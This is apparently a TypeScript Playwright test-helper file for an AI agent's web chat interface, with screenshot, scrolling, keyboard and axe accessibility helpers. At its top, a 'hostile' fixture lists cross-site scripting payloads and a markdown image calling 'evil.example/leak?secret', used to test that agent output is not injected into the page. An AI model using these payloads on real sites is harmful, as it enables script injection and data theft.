import axe from "axe-core";
import type { Locator, Page } from "playwright-core";
import { desktop, phone } from "./web-browser.ts";

/** Text of an agent, tool or file that tries to become a part of the page. */
export const hostile = [
  "<script>window.hacked = 1</script>",
  "<img src=x onerror='window.hacked = 1'>",
  "<svg onload='window.hacked = 1'></svg>",
  "[click](javascript:window.hacked=1)",
  "![picture](https://evil.example/leak?secret)",
  "<a href='javascript:window.hacked=1'>x</a>",
  "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
  "[x](data:text/html,<script>window.hacked=1</script>)",
].join("\n\n");

export const terminal = (command: string, summary: string) => ({
  name: "terminal",
  arguments: { command, summary, security_risk: "LOW" },
});
export const finish = (message: string) => ({ tool_calls: [{ name: "finish", arguments: { message } }] });
export const about = (words: string, ...turns: readonly object[]) =>
  turns.map((turn) => ({ match: { last_user_contains: words }, ...turn }));

/** The guides' screenshots, on request: on a desktop, and some also on a phone and in the dark. */
export async function takePictures(
  page: Page,
  name: string,
  ...also: readonly ("phone" | "dark")[]
): Promise<void> {
  const folder = process.env["CONVOKE_PICTURES"];
  if (folder === undefined) return;
  await page.evaluate(() => document.fonts.ready);
  await page.screenshot({ path: `${folder}/${name}.png`, animations: "disabled" });
  for (const variant of also) {
    await (variant === "phone"
      ? page.setViewportSize(phone.viewport)
      : page.emulateMedia({ colorScheme: "dark" }));
    await page.screenshot({ path: `${folder}/${name}-${variant}.png`, animations: "disabled" });
    await page.setViewportSize(desktop.viewport);
    await page.emulateMedia({ colorScheme: null });
  }
}

/** By its button, because Enter begins a new line on a phone. */
export async function send(page: Page, text: string): Promise<void> {
  await page.getByRole("textbox", { name: "Message" }).fill(text);
  await page.getByRole("button", { name: /^(Send|Queue|Send and resume)$/ }).click();
}

export async function expectStatus(page: Page, word: string): Promise<void> {
  await page.locator("main header").getByText(word, { exact: true }).waitFor();
}

/** Resolves when scrolling has stopped for some frames: a turn of the wheel continues after the call. */
export async function untilAtRest(scrolled: Locator): Promise<void> {
  await scrolled.evaluate(async (element) => {
    const still = 15;
    const frame = () => new Promise(requestAnimationFrame);
    for (let frames = 0, from = element.scrollTop; frames < still; frames += 1) {
      await frame();
      if (element.scrollTop !== from) frames = 0;
      from = element.scrollTop;
    }
  });
}

/** Horizontal scroll range of the page in pixels. */
export function sidewaysOf(page: Page): Promise<number> {
  return page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
}

export async function tabTo(page: Page, selector: string): Promise<void> {
  for (let presses = 0; presses < 60; presses += 1) {
    if (await page.evaluate((wanted) => document.activeElement?.matches(wanted) === true, selector)) return;
    await page.keyboard.press("Tab");
  }
}

/** What axe finds; with `rules`, only by those. */
export async function violationsOf(page: Page, rules: readonly string[] = []): Promise<string[]> {
  // Evaluated by the debugger, to which the page's policy does not apply.
  await page.evaluate(axe.source);
  return await page.evaluate(async (runOnly) => {
    type Found = { violations: { id: string; nodes: { target: unknown[]; failureSummary?: string }[] }[] };
    type Axe = { run(options: object): Promise<Found> };
    const { violations } = await (window as unknown as { axe: Axe }).axe.run(
      runOnly.length === 0 ? {} : { runOnly },
    );
    return violations.map(
      ({ id, nodes }) => `${id}: ${String(nodes[0]?.target)} ${nodes[0]?.failureSummary ?? ""}`,
    );
  }, rules);
}

/** What axe finds in the light page, and then in the dark one by the rules about colours, because nothing else differs. */
export async function violationsInBothThemes(page: Page): Promise<string[]> {
  await page.emulateMedia({ colorScheme: "light" });
  const light = await violationsOf(page);
  await page.emulateMedia({ colorScheme: "dark" });
  await page.evaluate(async () => {
    const changes = document.getAnimations().filter((animation) => animation instanceof CSSTransition);
    await Promise.allSettled(changes.map(({ finished }) => finished));
  });
  const dark = await violationsOf(page, ["color-contrast", "link-in-text-block"]);
  return [...light, ...dark.map((violation) => `dark: ${violation}`)];
}

/** Goes to an address of the page as a link in it does, without a load of the page. */
export async function goWithin(page: Page, address: string): Promise<void> {
  await page.evaluate((to) => history.pushState(null, "", to), address);
}
